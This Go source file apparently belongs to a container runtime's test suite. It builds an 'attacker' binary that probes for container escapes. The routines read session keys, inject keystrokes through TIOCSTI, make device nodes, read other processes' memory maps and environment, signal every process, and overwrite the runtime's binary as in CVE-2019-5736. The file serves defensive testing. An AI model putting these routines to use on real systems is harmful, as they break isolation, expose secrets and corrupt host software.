// Command attacker is what a hostile image has in it: it tries to get at what is not the
// container's, and says what it reached. It says nothing if it reached nothing.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	args := os.Args[2:]
	switch os.Args[1] {
	case "say":
		fmt.Println(strings.Join(args, " "))
	case "file": // what a file has in it
		if b, err := os.ReadFile(args[0]); err == nil {
			fmt.Printf("%s: %s\n", args[0], b)
		}
	case "descriptors":
		descriptors()
	case "key":
		key(args[0])
	case "tty":
		tty()
	case "masks":
		masks(args)
	case "write":
		for _, pattern := range args {
			paths, _ := filepath.Glob(pattern)
			for _, path := range paths {
				if f, err := os.OpenFile(path, os.O_WRONLY, 0); err == nil {
					fmt.Println("may write", path)
					f.Close()
				}
			}
		}
	case "device":
		device(args)
	case "euid":
		fmt.Println("euid", os.Geteuid())
	case "run":
		unix.Exec(args[0], args, os.Environ())
	case "stdin":
		var st unix.Stat_t
		unix.Fstat(0, &st)
		fmt.Println(st.Dev, st.Ino)
	case "console":
		console()
	case "look":
		look()
	case "wait":
		until(func() bool { time.Sleep(time.Millisecond); return false })
	case "overwrite":
		overwrite()
	case "namespace":
		cmd := exec.Command("/proc/self/exe", "say", "made a user namespace")
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP}
		cmd.Stdout = os.Stdout
		cmd.Run()
	case "environment":
		fmt.Println(args[0] + "=" + os.Getenv(args[0]))
	case "status":
		b, _ := os.ReadFile("/proc/self/status")
		for line := range strings.Lines(string(b)) {
			if k, v, _ := strings.Cut(line, ":"); k == args[0] && strings.TrimSpace(v) != strings.Join(args[1:], " ") {
				fmt.Print(line)
			}
		}
	case "signal":
		signal(args)
	default:
		fmt.Println("attacker: no attack", os.Args[1])
	}
}

func descriptors() {
	list, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		fmt.Println("attacker:", err)
	}
	for _, e := range list {
		// Go's own are the directory that is read and the poller.
		to, err := os.Readlink("/proc/self/fd/" + e.Name())
		if n, _ := strconv.Atoi(e.Name()); n > 2 && err == nil && !strings.HasPrefix(to, "anon_inode:[event") && !strings.HasPrefix(to, "/proc/") {
			fmt.Println("descriptor", e.Name(), "is", to)
		}
	}
}

func key(name string) {
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", name, 0)
	if err != nil {
		return
	}
	buf := make([]byte, 100)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
	if err == nil {
		fmt.Printf("key %s is %s\n", name, buf[:n])
	}
}

func tty() {
	f, err := os.OpenFile("/dev/tty", os.O_RDWR, 0)
	if err != nil {
		return
	}
	fmt.Println("there is a controlling terminal")
	c := byte('!')
	if err := unix.IoctlSetPointerInt(int(f.Fd()), unix.TIOCSTI, int(c)); err == nil {
		fmt.Println("typed into it")
	}
}

// masks looks for a proc filesystem with a file that should be masked.
func masks(dirs []string) {
	for _, dir := range dirs {
		for _, name := range []string{"timer_list", "kcore", "keys"} {
			var fs unix.Statfs_t
			var st unix.Stat_t
			path := filepath.Join(dir, name)
			if unix.Statfs(path, &fs) == nil && unix.Lstat(path, &st) == nil && fs.Type == unix.PROC_SUPER_MAGIC {
				fmt.Println(path, "is not masked")
			}
		}
	}
}

func device(args []string) {
	major, _ := strconv.Atoi(args[0])
	minor, _ := strconv.Atoi(args[1])
	for _, dir := range []string{"/dev", "/tmp", "/"} {
		path := dir + "/made"
		os.Remove(path)
		if err := unix.Mknod(path, unix.S_IFCHR|0o600, int(unix.Mkdev(uint32(major), uint32(minor)))); err != nil {
			continue
		}
		if fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0); err == nil {
			fmt.Println("opened a device of its own making:", path)
			unix.Close(fd)
		}
	}
}

func console() {
	var st unix.Stat_t
	if err := unix.Stat("/dev/console", &st); err != nil {
		return
	}
	if st.Mode&unix.S_IFMT != unix.S_IFCHR || unix.Major(st.Rdev) != 136 {
		b, _ := os.ReadFile("/dev/console")
		fmt.Printf("/dev/console is another file: %s\n", b)
	}
}

// others are the processes beside this one.
func others() (pids []int) {
	list, _ := os.ReadDir("/proc")
	for _, e := range list {
		if pid, err := strconv.Atoi(e.Name()); err == nil && pid != os.Getpid() && pid != 1 {
			pids = append(pids, pid)
		}
	}
	return pids
}

// until calls fn until it returns true, and once more after standard input has ended.
func until(fn func() bool) {
	done := make(chan struct{})
	go func() {
		defer close(done)
		os.Stdin.Read(make([]byte, 1))
	}()
	fmt.Println("ready")
	for {
		select {
		case <-done:
			fn()
			return
		default:
			if fn() {
				return
			}
		}
	}
}

// look tries to see the descriptors, the binary and the memory of who joins the container.
func look() {
	until(func() bool {
		reached := false
		for _, pid := range others() {
			dir := fmt.Sprintf("/proc/%d/", pid)
			fds, _ := os.ReadDir(dir + "fd")
			for _, e := range fds {
				if to, err := os.Readlink(dir + "fd/" + e.Name()); err == nil {
					fmt.Println("reached descriptor", e.Name(), to)
					reached = true
				}
			}
			// Of a process that has ended they can be opened, and have nothing in them.
			for _, name := range []string{"environ", "maps"} {
				if b, err := os.ReadFile(dir + name); err == nil && len(b) > 0 {
					fmt.Printf("reached %s of %d bytes\n", name, len(b))
					reached = true
				}
			}
			if to, err := os.Readlink(dir + "exe"); err == nil {
				fmt.Println("reached the binary", to)
				reached = true
			}
		}
		return reached
	})
}

// overwrite opens the binary of who joins the container, and writes to it as soon as it
// is not executed any more (CVE-2019-5736).
func overwrite() {
	var own unix.Stat_t
	unix.Stat("/proc/self/exe", &own)
	until(func() bool {
		for _, pid := range others() {
			fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			defer unix.Close(fd)
			var st unix.Stat_t
			if unix.Fstat(fd, &st) != nil || st.Dev == own.Dev && st.Ino == own.Ino {
				continue
			}
			for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
				w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
				if err == unix.ETXTBSY {
					continue
				}
				if err == nil {
					if _, err := unix.Pwrite(w, []byte("owned"), 0); err == nil {
						fmt.Println("the runtime's binary is overwritten")
					}
					unix.Close(w)
				}
				return false
			}
		}
		return false
	})
}

// signal sends a signal to everybody, over and over.
func signal(args []string) {
	var sigs []unix.Signal
	for _, a := range args {
		sigs = append(sigs, unix.SignalNum(a))
	}
	until(func() bool {
		for _, pid := range others() {
			for _, s := range sigs {
				unix.Kill(pid, s)
			}
		}
		return false
	})
}
